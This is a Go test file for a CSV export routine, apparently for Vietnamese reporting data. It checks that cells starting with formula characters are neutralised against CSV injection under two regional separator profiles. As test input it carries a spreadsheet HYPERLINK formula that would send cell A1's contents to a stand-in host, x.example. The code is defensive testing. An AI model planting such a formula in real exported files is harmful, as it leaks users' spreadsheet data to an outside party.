package corpus

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestNeutralise is the OWASP rule for CSV injection, cell by cell.
func TestNeutralise(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("http://x.example/?leak="&A1,"bấm vào đây")`, `'=HYPERLINK("http://x.example/?leak="&A1,"bấm vào đây")`},
		{"+1", "'+1"},
		{"-3,2 %", "'-3,2 %"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"Tỷ lệ = a/b", "Tỷ lệ = a/b"},
		{"", ""},
		{"78.23 %", "78.23 %"},
	} {
		if got := Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVProfiles exports a report whose labels are formulas in both
// profiles and reads the files back as Excel would with each region's
// separators: in the Vietnamese profile with ";" (Go's encoding/csv with
// Comma ';'), numbers with a decimal comma, a negative value still a
// number, every formula-looking text cell starting with an apostrophe.
func TestCSVProfiles(t *testing.T) {
	b, err := os.ReadFile(filepath.Join(fixtures, "seed000.txt"))
	if err != nil {
		t.Fatal(err)
	}
	const (
		formula = `=HYPERLINK("http://x.example/?leak="&A1,"bấm vào đây")`
		label   = "Quyết định thành lập Ban chỉ đạo chuyển đổi số của đơn vị"
	)
	text := string(b)
	if !strings.Contains(text, label) || !strings.Contains(text, "\t11781\t") {
		t.Fatal("seed000.txt no longer holds the row the test changes")
	}
	text = strings.Replace(text, label, formula, 1)
	text = strings.Replace(text, "\t11781\t", "\t-11781\t", 1)
	dir := t.TempDir()
	write(t, filepath.Join(dir, "hostile.txt"), []byte(text))
	s := openT(t, filepath.Join(dir, "chiso.db"))
	ingest(t, s, 1, dir)

	for _, tt := range []struct {
		p          CSVProfile
		rate, comp string // the value of row II/II/7 and its a
	}{
		{VietnameseCSV, "78,23", "-11781"},
		{IntlCSV, "78.23", "-11781"},
	} {
		t.Run(tt.p.Name, func(t *testing.T) {
			var out bytes.Buffer
			if err := s.ExportCSV(context.Background(), &out, Vietnamese, tt.p); err != nil {
				t.Fatal(err)
			}
			body, ok := bytes.CutPrefix(out.Bytes(), []byte("\uFEFF"))
			if !ok {
				t.Fatal("no byte order mark")
			}
			r := csv.NewReader(bytes.NewReader(body))
			r.Comma = tt.p.Comma
			recs, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(recs[0], Vietnamese.Long) {
				t.Fatalf("header %q", recs[0])
			}
			var sawFormula, sawRate bool
			for _, rec := range recs[1:] {
				if len(rec) != len(Header) {
					t.Fatalf("%d fields, want %d: %q", len(rec), len(Header), rec)
				}
				for i, c := range rec {
					if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
						t.Errorf("column %s holds %q: a spreadsheet would run it", Header[i], c)
					}
					if c != "" && c[0] == '-' && !numeric[i] {
						t.Errorf("text column %s holds %q: a spreadsheet would run it", Header[i], c)
					}
				}
				if rec[8] == "'"+formula {
					sawFormula = true
				}
				if rec[5] == "II/II/7" {
					sawRate = true
					if rec[10] != tt.rate || rec[12] != tt.comp {
						t.Errorf("row II/II/7: value %q, a %q; want %q, %q", rec[10], rec[12], tt.rate, tt.comp)
					}
				}
			}
			if !sawFormula || !sawRate {
				t.Errorf("formula label found %v, row II/II/7 found %v", sawFormula, sawRate)
			}
		})
	}
	if _, err := CSVProfileFor("excel"); err == nil {
		t.Error(`CSVProfileFor("excel") gave no error`)
	}
}
